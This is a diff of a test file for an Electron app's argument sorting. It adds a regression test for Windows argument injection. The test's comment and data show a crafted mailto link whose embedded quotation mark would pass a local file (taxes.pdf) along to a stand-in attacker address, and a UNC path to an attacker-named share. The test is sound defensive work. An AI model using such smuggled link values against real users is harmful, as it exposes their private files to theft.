@@ -1,12 +1,21 @@
 import { expect, it } from 'vitest';
 import { isAnything, parseHandOver, sortArguments } from '../../../main/electron/handed-over.ts';
 
-it('links and files are told apart, and files are found from where they were named', () => {
-  const words = ['a.pdf', '/b/c d.pdf', 'mailto:a@x.test', '', 'file:///e/f%20g.pdf', './-h.pdf'];
+it('files are found from where they were named', () => {
+  const words = ['a.pdf', '/b/c d.pdf', '', 'file:///e/f%20g.pdf', './-h.pdf'];
   expect(sortArguments(words, '/folder')).toEqual({
-    links: ['mailto:a@x.test'],
+    links: [],
     paths: ['/folder/a.pdf', '/b/c d.pdf', '/e/f g.pdf', '/folder/-h.pdf'],
   });
+});
+
+it('a link brings no file along: a quotation mark in it would end the argument on Windows', () => {
+  // Registered is `"SMTP Setup.exe" -- "%1"`, and the link was `mailto:x@evil.test" "C:\\Users\\ada\\taxes.pdf`.
+  for (const words of [
+    ['mailto:x@evil.test', 'C:\\Users\\ada\\taxes.pdf'],
+    ['smtp-setup:', '\\\\evil.test\\share\\a.pdf'],
+  ])
+    expect(sortArguments(words, '/folder')).toEqual({ links: [words[0]], paths: [] });
 });
 
 it.each(['https://x.test/a.pdf', 'file://server/share/a.pdf', 'file:///a%2fb.pdf', 'data:,x', 'x-y:z'])(
@@ -22,8 +31,8 @@ it('a letter and a colon are a drive, not a scheme', () => {
 
 it('one link and a hundred files are enough', () => {
   const many = Array.from({ length: 150 }, (_, index) => `${index}.pdf`);
-  const { links, paths } = sortArguments([...many, 'mailto:a@x.test', 'mailto:b@x.test'], '/folder');
-  expect([links, paths.length]).toEqual([['mailto:a@x.test'], 100]);
+  expect(sortArguments(many, '/folder').paths).toHaveLength(100);
+  expect(sortArguments(['mailto:a@x.test', 'mailto:b@x.test'], '/folder').links).toEqual(['mailto:a@x.test']);
 });
 
 it.each([
